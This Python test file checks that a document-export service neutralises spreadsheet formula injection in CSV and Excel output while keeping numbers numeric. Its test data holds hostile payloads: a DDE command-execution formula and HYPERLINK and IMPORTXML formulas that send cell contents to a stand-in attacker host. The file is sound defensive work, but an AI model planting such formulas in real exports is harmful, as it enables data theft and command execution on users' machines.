"""No text of a document becomes a formula of a spreadsheet, in CSV or Excel; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from documents.services.export.cells import Cell, TextStyle, guarded, text_of
from documents.services.export.columns import Column, Table
from documents.services.export.csv_lines import csv_line
from documents.services.export.files import CsvFile, WorkbookFile
from documents.services.export.layout import Layout
from inference.types import FieldType
from tests.documents.services.test_export_layout import record

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b =1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\0=1+1",
    *(f"{chr(sign)}=1+1" for sign in (0x1F, 0x61C, 0x180E, 0x2061, 0x2064, 0x2066, 0x2069, 0x3164, 0xFE0F, 0xE0020)),
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
    '=DDE("cmd","/C calc","x")',
)
# A cell of its own to a program that separates elsewhere than the file.
SPLITTING = ("a;=1+1", "a\t=1+1", "a,=1+1", "a|=1+1", 'a"\n=1+1', 'a","=1+1', "a\r\n=1+1")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert text_of(Cell(text), TextStyle()) == f"'{text}"


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("text", SPLITTING)
def test_no_text_begins_a_cell_of_its_own(text: str, separator: str) -> None:
    line = csv_line(["x", text, 5], separator)
    assert line == f'x{separator}"{text.replace(chr(34), chr(34) * 2)}"{separator}5\r\n'
    assert list(csv.reader(io.StringIO(line, newline=""), delimiter=separator)) == [["x", text, "5"]]


@pytest.mark.parametrize(
    ("value", "kind", "written"),
    [
        (-119.0, FieldType.MONEY, "-119.00"),
        (-2, FieldType.NUMBER, "-2"),
        (True, FieldType.BOOLEAN, "1"),
        ("2026-11-09", FieldType.DATE, "2026-11-09"),
        ("RE-2026/001", FieldType.IDENTIFIER, "RE-2026/001"),
        ("a - b = c", FieldType.TEXT, "a - b = c"),
    ],
)
def test_what_is_no_formula_stays_as_it_is(value: Any, kind: FieldType, written: str) -> None:
    assert text_of(Cell(value, kind), TextStyle()) == written


def test_files_hold_texts_and_numbers(tmp_path: Path) -> None:
    table = Table("=1+1", (Column("=1+1", field="seller_name"), Column("Sum", field="grand_total")))
    rows = [record(seller_name=text, grand_total=-119.0) for text in FORMULAS]
    book, text_file = WorkbookFile(tmp_path / "a.xlsx", [table]), CsvFile(tmp_path / "a.csv", [table], Layout(()))
    for row in rows:
        book.add(row)
        text_file.add(row)
    book.close()
    text_file.close()
    head, *cells = openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets[0].iter_rows()
    assert {cell.data_type for cell in (head[0], *(name for name, _ in cells))} <= {"s", "inlineStr"}
    assert {(total.data_type, total.value) for _, total in cells} == {("n", -119)}
    written = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert read[0] == ["'=1+1", "Sum"]
    assert all(name.startswith("'") and total == "-119.00" for name, total in read[1:])
